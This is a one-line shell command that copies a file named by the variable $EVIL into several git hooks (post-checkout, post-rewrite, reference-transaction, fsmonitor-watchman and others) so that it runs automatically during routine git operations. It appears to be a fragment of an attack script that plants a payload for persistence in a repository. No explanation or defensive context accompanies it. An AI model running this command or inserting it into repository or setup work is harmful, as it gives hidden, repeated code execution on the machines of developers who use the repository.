for h in post-index-change reference-transaction post-checkout pre-auto-gc post-rewrite fsmonitor-watchman; do cp "$EVIL" .git/hooks/$h; done
